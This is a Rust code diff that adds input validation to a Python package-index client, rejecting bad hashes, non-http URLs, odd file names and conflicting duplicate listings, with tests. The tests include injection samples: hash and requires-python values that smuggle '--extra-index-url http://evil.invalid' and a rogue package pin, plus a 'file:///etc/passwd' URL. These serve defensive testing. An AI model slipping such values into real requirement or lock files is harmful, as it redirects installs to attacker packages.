@@ -10,7 +10,7 @@ use pep508_rs::PackageName;
 use serde::{Deserialize, Serialize};
 use url::Url;
 
-use super::{DistFile, DistKind};
+use super::{DistFile, DistKind, IndexError, validate};
 
 /// Prefer PEP 691 JSON, accept HTML from indexes that only speak PEP 503.
 pub const ACCEPT: &str = "application/vnd.pypi.simple.v1+json, \
@@ -239,47 +239,106 @@ fn filename_of(url: &str) -> Option<String> {
     )
 }
 
-/// Turns page files into [`DistFile`]s of `project`, skipping (with a debug log) files
-/// whose names do not parse or name another project.
-pub fn to_dist_files(files: &[PageFile], project: &PackageName, index: &Arc<str>) -> Vec<DistFile> {
-    let mut out = Vec::with_capacity(files.len());
+/// Turns page files into [`DistFile`]s of `project`, checking every value a lock or
+/// an audit file could carry ([`super::validate`]).
+///
+/// Skipped, as pip and uv skip them (with a debug log): links that are not a
+/// distribution of `project` (another project's files, `README.txt`, a bad name),
+/// and files whose `requires-python` does not parse (PyPI serves some from before
+/// PEP 440; uv skips them too). An error ([`IndexError::Invalid`]): a distribution of
+/// `project` whose name is not a plain file name, whose sha256 (or its metadata
+/// sidecar's) is not 64 hex digits, whose URL is not http(s) (or `file:` when `local_source`:
+/// a directory or an index on the local disk), whose requires-python holds control characters, or a file listed twice
+/// with different hashes. The same file listed twice is kept once.
+pub fn to_dist_files(
+    files: &[PageFile],
+    project: &PackageName,
+    index: &Arc<str>,
+    local_source: bool,
+) -> Result<Vec<DistFile>, IndexError> {
+    let mut out: Vec<DistFile> = Vec::with_capacity(files.len());
     for file in files {
         let Some((kind, version)) = parse_filename(&file.filename, project) else {
             tracing::debug!(
-                "skipping `{}` on index `{index}`: not a distribution of `{project}`",
-                file.filename
+                "skipping {} on index `{index}`: not a distribution of `{project}`",
+                validate::quoted(&file.filename)
             );
             continue;
         };
-        let Ok(url) = Url::parse(&file.url) else {
-            tracing::debug!("skipping `{}` on index `{index}`: bad URL", file.filename);
-            continue;
+        let invalid = |message: String| IndexError::Invalid {
+            index: index.to_string(),
+            project: project.to_string(),
+            file: validate::shown(&file.filename),
+            message: message.into(),
         };
-        let requires_python = file.requires_python.as_deref().and_then(|spec| {
-            VersionSpecifiers::from_str(spec)
-                .inspect_err(|err| {
-                    tracing::debug!(
-                        "ignoring requires-python `{spec}` of `{}`: {err}",
-                        file.filename
-                    )
-                })
-                .ok()
-        });
+        validate::plain_filename(&file.filename).map_err(invalid)?;
+        let url = Url::parse(&file.url).map_err(|err| {
+            invalid(format!(
+                "the URL {} does not parse: {err}",
+                validate::quoted(&file.url)
+            ))
+        })?;
+        match url.scheme() {
+            "http" | "https" => {}
+            "file" if local_source => {}
+            scheme => {
+                return Err(invalid(format!(
+                    "its URL has the scheme `{}`; an index may only link to http(s) files",
+                    validate::shown(scheme)
+                )));
+            }
+        }
+        let sha256 = file
+            .sha256
+            .as_deref()
+            .map(validate::sha256)
+            .transpose()
+            .map_err(invalid)?;
+        if let Some(hash) = &file.metadata_sha256 {
+            validate::sha256(hash)
+                .map_err(|message| invalid(format!("its metadata sidecar: {message}")))?;
+        }
+        let requires_python = match file.requires_python.as_deref() {
+            None => None,
+            Some(spec) => {
+                validate::no_control("requires-python", spec).map_err(invalid)?;
+                match VersionSpecifiers::from_str(spec) {
+                    Ok(spec) => Some(spec),
+                    Err(err) => {
+                        tracing::debug!(
+                            "skipping `{}` on index `{index}`: requires-python `{spec}` does not parse: {err}",
+                            file.filename
+                        );
+                        continue;
+                    }
+                }
+            }
+        };
+        if let Some(seen) = out.iter().find(|f| f.filename == file.filename) {
+            if seen.sha256 != sha256 {
+                return Err(invalid(format!(
+                    "the page lists it twice, with the sha256 {} and {}",
+                    seen.sha256.as_deref().unwrap_or("(none)"),
+                    sha256.as_deref().unwrap_or("(none)")
+                )));
+            }
+            continue;
+        }
         out.push(DistFile {
             filename: file.filename.clone(),
             kind,
             version,
             url,
-            sha256: file.sha256.clone(),
+            sha256,
             requires_python,
-            yanked: file.yanked.clone(),
+            yanked: file.yanked.as_deref().map(validate::escape_control),
             upload_time: file.upload_time,
             size: file.size,
             has_metadata_sidecar: file.has_metadata,
             index: index.clone(),
         });
     }
-    out
+    Ok(out)
 }
 
 // SEAM: replaced by index::filename on merge. A minimal wheel / sdist filename parser,
@@ -476,12 +535,13 @@ mod tests {
     #[test]
     fn html_base_tag() {
         let html = r#"<html><head><base href="https://files.example.com/pkgs/"></head>
-<a href="a-1.0.tar.gz#md5=00&sha256=ff">a</a>"#;
+<a href="a-1.0.tar.gz#md5=00&sha256=FF">a</a>"#;
         let page = parse_html(html, &page_url());
         assert_eq!(
             page.files[0].url,
             "https://files.example.com/pkgs/a-1.0.tar.gz"
         );
+        // Lower-cased here, checked as a sha256 when made a `DistFile`.
         assert_eq!(page.files[0].sha256.as_deref(), Some("ff"));
     }
 
@@ -529,6 +589,101 @@ mod tests {
             Some("6.0".to_owned())
         );
         assert_eq!(parse_filename("torchvision-0.20.0.tar.gz", &torch), None);
+    }
+
+    fn page_file(filename: &str) -> PageFile {
+        PageFile {
+            filename: filename.to_owned(),
+            url: format!("https://files.example/{filename}"),
+            sha256: Some("AB".repeat(32)),
+            requires_python: None,
+            yanked: None,
+            upload_time: None,
+            size: None,
+            has_metadata: false,
+            metadata_sha256: None,
+        }
+    }
+
+    fn dist_files(files: &[PageFile]) -> Result<Vec<DistFile>, String> {
+        let demo = PackageName::from_str("demo").unwrap();
+        to_dist_files(files, &demo, &Arc::from("idx"), false).map_err(|e| e.to_string())
+    }
+
+    #[test]
+    fn values_are_checked_where_files_are_made() {
+        let good = page_file("demo-1.0-py3-none-any.whl");
+        let files = dist_files(std::slice::from_ref(&good)).unwrap();
+        assert_eq!(files[0].sha256, Some("ab".repeat(32)));
+
+        let injected = PageFile {
+            sha256: Some(format!(
+                "{} \\\n--extra-index-url http://evil.invalid/simple\nevilpkg==6.6.6",
+                "a".repeat(64)
+            )),
+            ..good.clone()
+        };
+        let cases = [
+            injected,
+            PageFile {
+                sha256: Some("ff".into()),
+                ..good.clone()
+            },
+            PageFile {
+                filename: "demo-1.0-py3-none-any\nevil.whl".into(),
+                ..good.clone()
+            },
+            PageFile {
+                metadata_sha256: Some("not-a-hash".into()),
+                ..good.clone()
+            },
+            PageFile {
+                url: "file:///etc/passwd".into(),
+                ..good.clone()
+            },
+            PageFile {
+                requires_python: Some(">=3.8\n--index-url http://evil.invalid".into()),
+                ..good.clone()
+            },
+        ];
+        let messages: Vec<String> = cases
+            .iter()
+            .map(|case| dist_files(std::slice::from_ref(case)).unwrap_err())
+            .collect();
+        insta::assert_snapshot!(messages.join("\n"));
+    }
+
+    #[test]
+    fn skips_what_is_not_a_distribution_and_dedups() {
+        let good = page_file("demo-1.0-py3-none-any.whl");
+        let files = dist_files(&[
+            page_file("README file.txt"),
+            page_file("other-1.0-py3-none-any.whl"),
+            PageFile {
+                requires_python: Some(">=2.7.*,!=3.0".into()),
+                ..page_file("demo-0.9.tar.gz")
+            },
+            good.clone(),
+            good.clone(),
+            PageFile {
+                yanked: Some("broken\n\u{1b}[2J".into()),
+                ..page_file("demo-1.1.tar.gz")
+            },
+        ])
+        .unwrap();
+        let names: Vec<_> = files.iter().map(|f| f.filename.as_str()).collect();
+        assert_eq!(names, ["demo-1.0-py3-none-any.whl", "demo-1.1.tar.gz"]);
+        assert_eq!(files[1].yanked.as_deref(), Some("broken\\n\\u{1b}[2J"));
+
+        let twice = dist_files(&[
+            good.clone(),
+            PageFile {
+                sha256: Some("cd".repeat(32)),
+                ..good
+            },
+        ])
+        .unwrap_err();
+        assert!(twice.contains("lists it twice"), "{twice}");
     }
 
     #[test]
